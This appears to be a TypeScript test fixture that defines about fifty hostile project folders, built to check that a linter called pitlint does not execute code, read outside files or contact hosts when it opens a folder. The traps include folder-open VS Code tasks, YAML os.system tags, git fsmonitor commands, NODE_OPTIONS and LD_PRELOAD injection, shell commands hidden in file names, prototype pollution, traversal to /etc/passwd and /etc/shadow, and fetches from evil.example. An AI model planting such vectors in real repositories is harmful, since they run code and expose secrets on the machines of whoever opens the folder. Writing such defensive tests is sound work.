// Fifty folders that try to get code run, files read or addresses asked by the tool that opens them. Every trap writes a canary or names an address that must not be asked.

const clean = 'import axios from "axios";\nexport const quote = () => axios.get("https://prices.internal/");\n';
const canary = (name: string) => `require("fs").writeFileSync(process.env.CANARY || "/tmp/pitlint-canary", "${name}");`;
const deployment = (rest: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: orders }\nspec: { template: { spec: { containers: [{ name: o, image: o }] } } }\n${rest}`;

type Files = Readonly<Record<string, string>>;

const scripts: readonly string[] = [
  "pitlint.js", "pitlint.mjs", "pitlint.cjs", "pitlint.config.js", "pitlint.config.cjs", ".pitlintrc.js", ".eslintrc.js", "eslint.config.js", "prettier.config.js", ".prettierrc.js", "babel.config.js", "jest.config.js", "tsx.config.js", "node_modules/typescript/index.js", "node_modules/yaml/index.js", "node_modules/ignore/index.js",
  "node_modules/tsx/index.js", "node_modules/ts-morph/index.js", "node_modules/@ts-morph/common/index.js", "node_modules/vscode-languageserver/index.js", "node_modules/pitlint/dist/cli.js", "node_modules/.bin/git", "node_modules/.bin/node", ".vscode/extension.js", ".git/hooks/post-checkout",
];

const settings: Readonly<Record<string, Files>> = {
  vscode: { ".vscode/settings.json": '{ "pitlint.path": "./evil.sh", "typescript.tsdk": "./node_modules/typescript/lib", "eslint.nodePath": "./evil" }', ".vscode/tasks.json": '{ "tasks": [{ "command": "./evil.sh", "runOptions": { "runOn": "folderOpen" } }] }' },
  "tsconfig plugins": { "tsconfig.json": '{ "compilerOptions": { "plugins": [{ "name": "./evil.js" }], "paths": { "*": ["../../../../etc/*"] } }, "extends": "../../../../../etc/passwd" }' },
  "tsconfig of a package": { "tsconfig.json": '{ "extends": ["evil/tsconfig.json", "/etc/hostname", "file:///etc/hostname", "\\\\\\\\evil.example\\\\share\\\\t.json", "https://evil.example/t.json"] }' },
  "package keys": { "package.json": '{ "name": "x", "prettier": "./evil.js", "eslintConfig": { "extends": "./evil.js" }, "pitlint": "./evil.js", "main": "./evil.js", "scripts": { "prepare": "touch /tmp/pitlint-canary", "start": "$(touch /tmp/pitlint-canary)" }, "workspaces": ["../../../../*"] }' },
  "yaml tags": { "a.yaml": deployment('x: !!js/function "function () { process.exit(9) }"\ny: !!python/object/apply:os.system ["touch /tmp/pitlint-canary"]\nz: !<tag:yaml.org,2002:js/undefined> ""\n') },
  "schema addresses": { "a.yaml": `# yaml-language-server: $schema=https://evil.example/s.json\n$schema: http://evil.example/s.json\n${deployment("")}` },
  "schema files": { "a.yaml": `# yaml-language-server: $schema=file:///etc/passwd\n${deployment("")}` },
  "helm that calls out": { "chart/Chart.yaml": "name: c\nversion: 1.0.0\ndependencies: [{ name: d, repository: 'https://evil.example' }, { name: e, repository: 'file://../../../../etc' }]\n", "chart/templates/a.yaml": deployment('x: {{ .Files.Get "../../../../etc/passwd" }}\ny: {{ getHostByName "evil.example" }}\nz: {{ env "HOME" }}{{ exec "touch" "/tmp/pitlint-canary" }}\n') },
  kustomize: { "kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [https://evil.example/a.yaml, ../../../../../etc/hostname, /etc/passwd, 'git@evil.example:a/b']\ngenerators: [./evil.sh]\npatchesStrategicMerge: [../../../../../etc/shadow]\n" },
  compose: { "docker-compose.yaml": "include: [../../../../etc/passwd, https://evil.example/c.yaml]\nservices: { a: { image: a, env_file: [/etc/passwd, ../../../../etc/shadow], extends: { file: /etc/hostname, service: b } } }\n" },
  "imports out of the folder": { "b.ts": 'import axios from "axios";\nimport { T } from "../../../../../etc/passwd";\nimport { U } from "/etc/hostname";\nimport { V } from "file:///etc/shadow";\nexport * from "../../../../../../root/x";\nexport const a = () => axios.get("x", { timeout: T + U + V });\n' },
  "requires that run": { "b.ts": `${clean}require("./evil.js");\nimport("./evil.js");\neval("1");\n` },
  "pitlint.yaml that leads out": { "pitlint.yaml": "extends: ../../../../etc/passwd\npacks: { node: '../../../evil' }\nservices: { a: { source: ../../../../etc } }\nignore: ['../../../**']\n" },
  "pitlint.yaml with tags": { "pitlint.yaml": 'profile: !!js/function "process.exit(9)"\n<<: &a { *a : *a }\n' },
  "a baseline": { "pitlint-baseline.json": '{ "__proto__": { "polluted": 1 }, "version": "../../evil" }' },
  "names of the prototype": { "package.json": '{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }, "dependencies": { "__proto__": "1" } }', "a.yaml": deployment("__proto__: { polluted: 1 }\n") },
  "git configuration": { ".git/config": "[core]\n\tfsmonitor = touch /tmp/pitlint-canary\n\thooksPath = hooks\n\tpager = touch /tmp/pitlint-canary\n", ".git/HEAD": "ref: refs/heads/main\n" },
  ".gitignore": { ".gitignore": "!/../../../etc\n../**\n/etc/passwd\n", ".pitlintignore": "| touch /tmp/pitlint-canary" },
  ".npmrc": { ".npmrc": "script-shell=./evil.sh\nnode-options=--require ./evil.js\n", ".node-version": "evil", ".nvmrc": "$(touch /tmp/pitlint-canary)" },
  ".env": { ".env": "NODE_OPTIONS=--require=./evil.js\nLD_PRELOAD=./evil.so\n", "docker-compose.yaml": "services: { a: { image: '${A:-$(touch /tmp/pitlint-canary)}' } }\n" },
  lockfiles: { "package-lock.json": '{ "packages": { "node_modules/../../../../etc/passwd": { "version": "1.0.0", "resolved": "http://evil.example/x.tgz" } } }', "pnpm-lock.yaml": "packages: { '/../../../../etc': { resolution: { tarball: 'http://evil.example' } } }\n", "yarn.lock": '"a@file:../../../etc":\n  version "1"\n' },
  Dockerfiles: { Dockerfile: "# syntax=evil.example/frontend\nFROM node:20\nRUN --mount=type=bind,source=/etc touch /tmp/pitlint-canary\nADD https://evil.example/a /a\nENTRYPOINT [\"sh\", \"-c\", \"touch /tmp/pitlint-canary\"]\n" },
  "prometheus files": { "prometheus.yaml": "rule_files: [/etc/passwd, ../../../*.yaml]\nscrape_configs: [{ job_name: a, file_sd_configs: [{ files: [/etc/passwd] }], http_sd_configs: [{ url: 'http://evil.example' }], bearer_token_file: /etc/shadow }]\n" },
  "source maps": { "b.js": `${clean}//# sourceMappingURL=http://evil.example/b.js.map\n//# sourceMappingURL=../../../../etc/passwd\n`, "c.ts": '/// <reference path="../../../../etc/passwd" />\n/// <reference types="evil" />\nexport {};\n' },
  "code in names": { "$(touch pitlint-canary).ts": clean, "`touch pitlint-canary`.ts": clean, "; touch pitlint-canary ;.ts": clean, "--require=evil.js": "" },
  "workspace file": { "evil.code-workspace": '{ "folders": [{ "path": "/etc" }], "settings": { "pitlint.path": "/tmp/evil" } }', "devcontainer.json": '{ "initializeCommand": "touch /tmp/pitlint-canary" }' },
};

/** Files of each hostile folder, by name. Every one has a source with a finding, and a program that a tool might start. */
export const hostile: Readonly<Record<string, Files>> = {
  ...Object.fromEntries(scripts.map((path) => [path, { "a.ts": clean, "package.json": '{ "name": "x" }', [path]: canary(path), ...(path.startsWith("node_modules/") ? { [`${path.split("/").slice(0, path.includes("@") ? 3 : 2).join("/")}/package.json`]: '{ "name": "x", "version": "0.0.0", "main": "index.js" }' } : {}) }] as const)),
  ...Object.fromEntries(Object.entries(settings).map(([name, files]) => [name, { "a.ts": clean, "evil.js": canary(name), "evil.sh": "#!/bin/sh\ntouch /tmp/pitlint-canary\n", ...files }])),
};
